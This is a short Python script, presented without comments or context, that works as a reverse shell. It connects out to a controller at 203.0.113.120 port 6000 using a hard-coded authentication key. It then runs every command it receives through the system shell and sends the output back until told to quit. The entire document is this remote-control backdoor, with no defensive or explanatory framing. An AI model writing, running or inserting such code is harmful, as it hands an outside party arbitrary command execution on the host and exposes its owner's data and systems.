from multiprocessing.connection import Client
import subprocess

conn = Client(("203.0.113.120", 6000), authkey=b"s3cr3t")
while True:
    cmd = conn.recv()
    if cmd == "quit":
        break
    conn.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)
